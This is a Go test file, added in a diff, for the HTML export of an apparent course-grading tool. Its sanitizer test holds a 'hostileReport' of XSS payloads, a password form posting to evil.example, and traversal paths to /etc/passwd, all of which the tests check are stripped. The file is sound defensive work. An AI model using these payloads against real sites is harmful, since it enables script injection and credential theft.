@@ -1,0 +1,354 @@
+package export
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+
+	"handin/grade"
+)
+
+func TestExportWritesPagesIndexResults(t *testing.T) {
+	ws, out := t.TempDir(), t.TempDir()
+	writeWorkspace(t, ws, newGroup(12), newGroup(3), newGroup(7))
+	sum := export(t, ws, out)
+
+	if sum.Groups != 3 || len(sum.Pages) != 3 {
+		t.Fatalf("summary: %d groups, %d pages, want 3 and 3", sum.Groups, len(sum.Pages))
+	}
+	var results []grade.GroupResult
+	if err := json.Unmarshal(readFile(t, filepath.Join(out, ResultsFile)), &results); err != nil {
+		t.Fatal(err)
+	}
+	var order []int
+	for _, r := range results {
+		order = append(order, r.Group)
+	}
+	if !slices.Equal(order, []int{3, 7, 12}) {
+		t.Errorf("results.json groups %v, want sorted [3 7 12]", order)
+	}
+
+	index := parseHTML(t, readFile(t, filepath.Join(out, IndexFile)))
+	rows := findAll(index, func(n *html.Node) bool { return n.Data == "tr" && strings.HasPrefix(attr(n, "id"), "g") })
+	var links []string
+	for _, r := range rows {
+		for _, a := range findAll(r, byTag("a")) {
+			links = append(links, attr(a, "href"))
+		}
+	}
+	if want := []string{"groups/003.html", "groups/007.html", "groups/012.html"}; !slices.Equal(links, want) {
+		t.Errorf("index links %v, want %v", links, want)
+	}
+	cells := findAll(rows[0], byTag("td"))
+	if got := textContent(cells[2]); got != "1 / 2" {
+		t.Errorf("index questions passed cell %q, want \"1 / 2\"", got)
+	}
+	if got := textContent(cells[4]); got != "1" {
+		t.Errorf("index missing figures cell %q, want 1", got)
+	}
+	if got := textContent(cells[5]); got != "1 / 2" {
+		t.Errorf("index checklist cell %q, want \"1 / 2\"", got)
+	}
+
+	page := parseHTML(t, readFile(t, filepath.Join(out, "groups", "007.html")))
+	text := textContent(page)
+	for _, want := range []string{"Group 7", "s100071 (12 commits)", "s100072 (3 commits)", "1 late commit", "2026-01-23 23:59:00 +01:00"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("page lacks %q", want)
+		}
+	}
+	commit := findAll(page, func(n *html.Node) bool {
+		return n.Data == "a" && attr(n, "href") == "https://github.com/org7/mlops/commit/"+strings.Repeat("7", 40)
+	})
+	if len(commit) != 1 {
+		t.Errorf("no link to the deadline commit on GitHub")
+	}
+	// Question headings carry anchors and badges; the panel links to them.
+	q2 := findAll(page, byID("q2"))
+	if len(q2) != 1 || q2[0].Data != "h3" {
+		t.Fatalf("want one h3#q2, got %d", len(q2))
+	}
+	badges := findAll(q2[0], func(n *html.Node) bool { return strings.HasPrefix(attr(n, "class"), "handin-badge") })
+	var badgeText []string
+	for _, b := range badges {
+		badgeText = append(badgeText, attr(b, "class")+": "+textContent(b))
+	}
+	wantBadges := []string{"handin-badge bad: words 8 / 50–100", "handin-badge bad: images 2 / 1–1", "handin-badge bad: 1 missing figure(s)"}
+	if !slices.Equal(badgeText, wantBadges) {
+		t.Errorf("Question 2 badges %q, want %q", badgeText, wantBadges)
+	}
+	panelLinks := findAll(page, func(n *html.Node) bool { return n.Data == "a" && attr(n, "href") == "#q2" })
+	if len(panelLinks) < 2 { // the problem text and the question row
+		t.Errorf("violations panel has %d links to #q2, want 2", len(panelLinks))
+	}
+	// The figure is inlined; the missing one has a placeholder naming it.
+	imgs := findAll(page, byTag("img"))
+	if len(imgs) != 1 || !strings.HasPrefix(attr(imgs[0], "src"), "data:image/png;base64,") || attr(imgs[0], "alt") != "pipeline" {
+		t.Errorf("want the pipeline figure inlined as a PNG data URI, got %d images", len(imgs))
+	}
+	if !strings.Contains(text, "missing figure reports/figures/gone.png") {
+		t.Errorf("no placeholder for the missing figure")
+	}
+	// Front matter is hidden, task lists become marks, charts are drawn.
+	if strings.Contains(text, "layout: default") {
+		t.Errorf("front matter shown")
+	}
+	if !strings.Contains(text, "☑ Create a git repository") {
+		t.Errorf("checked task list item not rendered as ☑")
+	}
+	svgs := findAll(page, byTag("svg"))
+	if len(svgs) != 2 {
+		t.Fatalf("want 2 charts, got %d", len(svgs))
+	}
+	if cells := findAll(svgs[1], byTag("rect")); len(cells) != 4 { // background + 3 active hours
+		t.Errorf("heatmap has %d rects, want 4", len(cells))
+	}
+	if bars := findAll(svgs[0], byTag("rect")); len(bars) != 3 { // 2 students + 1 unmatched author
+		t.Errorf("contribution chart has %d bars, want 3", len(bars))
+	}
+}
+
+// hostileReport tries every way we know to get active content or external
+// resources into a page.
+const hostileReport = `# Report
+
+### Question 1
+
+Answer:
+
+<script>alert(1)</script>
+<img src=x onerror="alert(2)">
+<img src="figures/ok.png" width="300" onload="alert(3)" style="position:fixed;top:0;left:0;width:100vw">
+<a href="javascript:alert(4)">click</a>
+<a href="JaVaScRiPt:alert(5)">click</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">data link</a>
+<iframe src="https://evil.example/frame"></iframe>
+<form action="https://evil.example/steal"><input name="pw"><button>go</button></form>
+<style>body { background: url(https://evil.example/track.png) }</style>
+<div style="background-image: url('https://evil.example/bg.png')">styled</div>
+<svg onload="alert(7)"><script>alert(8)</script><image href="https://evil.example/svg.png"/></svg>
+<meta http-equiv="refresh" content="0; url=https://evil.example/">
+<object data="https://evil.example/x.swf"></object>
+<embed src="https://evil.example/y.swf">
+<base href="https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/x.css">
+<img src="data:image/png;base64,iVBORw0KGgo=">
+<img src="https://evil.example/raw.png">
+<video src="https://evil.example/v.mp4"></video>
+<details open><summary>More</summary>kept <b>bold</b><br>line</details>
+
+[x](javascript:alert(9))
+![x](../../../etc/passwd)
+![y](/etc/passwd)
+![](https://evil.example/x.png)
+[![badge](https://img.example/badge.svg)](https://github.com/x/y)
+![vector](figures/diagram.svg)
+![renamed](figures/really-png.jpg)
+![text](figures/notes.png)
+![case](figures/Plot.PNG)
+![escape](figures/../../README.md)
+![query](figures/ok.png?raw=true)
+
+### Question 2 <img src=x onerror=alert(10)>
+
+| a | b |
+|---|---|
+| <span style="color:red" onclick="alert(11)">cell</span> | [link](https://example.org/ok) |
+`
+
+func TestHostileReportHasNoActiveContent(t *testing.T) {
+	ws, out := t.TempDir(), t.TempDir()
+	g := newGroup(5)
+	g.files["reports/README.md"] = []byte(hostileReport)
+	g.files["reports/figures/ok.png"] = testPNG(4, 4, 1)
+	g.files["reports/figures/really-png.jpg"] = testPNG(4, 4, 2)
+	g.files["reports/figures/notes.png"] = []byte("just text, not an image")
+	g.files["reports/figures/diagram.svg"] = []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)
+	g.files["reports/figures/plot.png"] = testPNG(4, 4, 3)
+	g.files["README.md"] = []byte("# top readme")
+	writeWorkspace(t, ws, g)
+	export(t, ws, out)
+	data := readFile(t, filepath.Join(out, "groups", "005.html"))
+	page := parseHTML(t, data)
+
+	for _, tag := range []string{"script", "iframe", "form", "input", "button", "object", "embed", "base", "link", "video", "frame", "image"} {
+		if n := findAll(page, byTag(tag)); len(n) > 0 {
+			t.Errorf("page has <%s>", tag)
+		}
+	}
+	assertNoActiveContent(t, page)
+
+	// Only our charts are SVG; the student's SVG was dropped.
+	for _, s := range findAll(page, byTag("svg")) {
+		if attr(s, "class") != "chart" {
+			t.Errorf("student <svg> survived")
+		}
+	}
+	// Harmless HTML survives.
+	report := findAll(page, func(n *html.Node) bool { return attr(n, "class") == "report" })[0]
+	if len(findAll(report, byTag("details"))) != 1 || len(findAll(report, byTag("summary"))) != 1 {
+		t.Errorf("<details>/<summary> not kept")
+	}
+	if len(findAll(page, byTag("br"))) == 0 || len(findAll(page, func(n *html.Node) bool { return n.Data == "table" })) < 2 {
+		t.Errorf("<br> or the markdown table not kept")
+	}
+	// Figures: inlined by content, width kept; everything else a placeholder
+	// (the student's own data: URI image is dropped by the sanitizer).
+	var inlined []string
+	for _, img := range findAll(page, byTag("img")) {
+		inlined = append(inlined, attr(img, "alt")+"|"+attr(img, "width"))
+	}
+	if want := []string{"|300", "renamed|", "query|"}; !slices.Equal(inlined, want) {
+		t.Errorf("inlined images (alt|width) %q, want %q", inlined, want)
+	}
+	text := textContent(page)
+	for _, want := range []string{
+		`image "../../../etc/passwd": outside the repository`,
+		`image "/etc/passwd": outside the repository`,
+		"remote image, not fetched: https://evil.example/x.png",
+		"remote image, not fetched: https://img.example/badge.svg",
+		"SVG figure reports/figures/diagram.svg not shown",
+		"figure reports/figures/notes.png is not a PNG, JPEG, GIF or WebP image",
+		"missing figure reports/figures/Plot.PNG: the repository has reports/figures/plot.png",
+	} {
+		if !strings.Contains(text, want) {
+			t.Errorf("page lacks placeholder %q", want)
+		}
+	}
+	// figures/../../README.md stays inside the repo: not outside, just not an image.
+	if !strings.Contains(text, "figure README.md is not a PNG") {
+		t.Errorf("report-relative path climbing to the repo root not resolved to README.md")
+	}
+	remote := findAll(page, func(n *html.Node) bool { return n.Data == "a" && attr(n, "href") == "https://evil.example/x.png" })
+	if len(remote) != 1 {
+		t.Errorf("remote image not shown as a link")
+	}
+	if len(findAll(page, byID("q2"))) != 1 {
+		t.Errorf("Question 2 heading with hostile HTML lost its anchor")
+	}
+}
+
+var safeURL = regexp.MustCompile(`^(https?://|mailto:|#|\.\./index\.html$|[a-zA-Z0-9_./-]+$)`)
+
+// assertNoActiveContent checks every element and attribute of a page.
+func assertNoActiveContent(t *testing.T, page *html.Node) {
+	t.Helper()
+	styles := 0
+	for _, n := range findAll(page, func(*html.Node) bool { return true }) {
+		switch n.Data {
+		case "style":
+			styles++
+			if n.Parent == nil || n.Parent.Data != "head" {
+				t.Errorf("<style> outside <head>")
+			}
+		case "meta":
+			if eq := attr(n, "http-equiv"); eq != "" && eq != "Content-Security-Policy" {
+				t.Errorf("<meta http-equiv=%q>", eq)
+			}
+			if attr(n, "http-equiv") == "Content-Security-Policy" && attr(n, "content") != contentSecurityPolicy {
+				t.Errorf("CSP is %q", attr(n, "content"))
+			}
+		}
+		for _, a := range n.Attr {
+			key, val := strings.ToLower(a.Key), strings.ToLower(a.Val)
+			switch {
+			case strings.HasPrefix(key, "on"):
+				t.Errorf("<%s %s=%q>: event handler", n.Data, a.Key, a.Val)
+			case key == "style":
+				t.Errorf("<%s style=%q>", n.Data, a.Val)
+			case strings.Contains(val, "url("):
+				t.Errorf("<%s %s=%q>: CSS url()", n.Data, a.Key, a.Val)
+			case key == "src":
+				if n.Data != "img" || !regexp.MustCompile(`^data:image/(png|jpeg|gif|webp);base64,`).MatchString(a.Val) {
+					t.Errorf("<%s src=%.60q>: not an inlined raster image", n.Data, a.Val)
+				}
+			case key == "href" || key == "action" || key == "formaction" || key == "xlink:href" || key == "data":
+				if n.Data != "a" || !safeURL.MatchString(a.Val) {
+					t.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
+				}
+			}
+		}
+	}
+	if styles != 1 {
+		t.Errorf("%d <style> elements, want only ours", styles)
+	}
+	csp := findAll(page, func(n *html.Node) bool { return n.Data == "meta" && attr(n, "http-equiv") == "Content-Security-Policy" })
+	if len(csp) != 1 {
+		t.Errorf("want one CSP meta tag, got %d", len(csp))
+	}
+}
+
+func TestPageWithoutSnapshotOrReport(t *testing.T) {
+	ws, out := t.TempDir(), t.TempDir()
+	noReport := newGroup(1)
+	noReport.result.ReportPath = ""
+	noReport.result.Check = nil
+	noSnapshot := newGroup(2)
+	writeWorkspace(t, ws, noReport, noSnapshot)
+	if err := os.Remove(filepath.Join(ws, "groups", "002", "snapshot.json")); err != nil {
+		t.Fatal(err)
+	}
+	export(t, ws, out)
+	for file, want := range map[string]string{
+		"001.html": "No report was found in the repository at the deadline.",
+		"002.html": "The snapshot of this group could not be read",
+	} {
+		page := parseHTML(t, readFile(t, filepath.Join(out, "groups", file)))
+		if !strings.Contains(textContent(page), want) {
+			t.Errorf("%s lacks %q", file, want)
+		}
+	}
+}
+
+func TestRepoAndCommitLinks(t *testing.T) {
+	sha := strings.Repeat("ab", 20)
+	for _, tc := range []struct {
+		web, url, sha    string
+		wantRepo, wantCI string
+	}{
+		{"https://github.com/o/r", "", sha, "https://github.com/o/r", "https://github.com/o/r/commit/" + sha},
+		{"https://gitlab.com/o/r", "", sha, "https://gitlab.com/o/r", ""},
+		{"", "https://github.com/o/r.git", sha, "https://github.com/o/r.git", ""},
+		{"javascript:alert(1)", "git@github.com:o/r.git", sha, "", ""},
+		{"https://github.com/o/r", "", "not-a-sha", "https://github.com/o/r", ""},
+	} {
+		r := &grade.GroupResult{WebURL: tc.web, URL: tc.url, DeadlineSHA: tc.sha}
+		if got := webLink(r); got != tc.wantRepo {
+			t.Errorf("webLink(%q, %q) = %q, want %q", tc.web, tc.url, got, tc.wantRepo)
+		}
+		if got := commitLink(r); got != tc.wantCI {
+			t.Errorf("commitLink(%q, %q) = %q, want %q", tc.web, tc.sha, got, tc.wantCI)
+		}
+	}
+}
+
+func TestFigurePaths(t *testing.T) {
+	s := newFigureSource(nil, "reports/README.md")
+	for _, tc := range []struct {
+		rel, want string
+		ok        bool
+	}{
+		{"figures/a.png", "reports/figures/a.png", true},
+		{"./figures/a.png", "reports/figures/a.png", true},
+		{"../docs/a.png", "docs/a.png", true},
+		{"../../a.png", "", false},
+		{"/etc/passwd", "", false},
+		{"figures\\a.png", "", false},
+		{"", "", false},
+	} {
+		got, ok := s.repoPath(tc.rel)
+		if got != tc.want || ok != tc.ok {
+			t.Errorf("repoPath(%q) = %q, %v; want %q, %v", tc.rel, got, ok, tc.want, tc.ok)
+		}
+	}
+	root := newFigureSource(nil, "README.md")
+	if _, ok := root.repoPath("../a.png"); ok {
+		t.Errorf("../a.png from a report at the repo root must be outside the repository")
+	}
+}
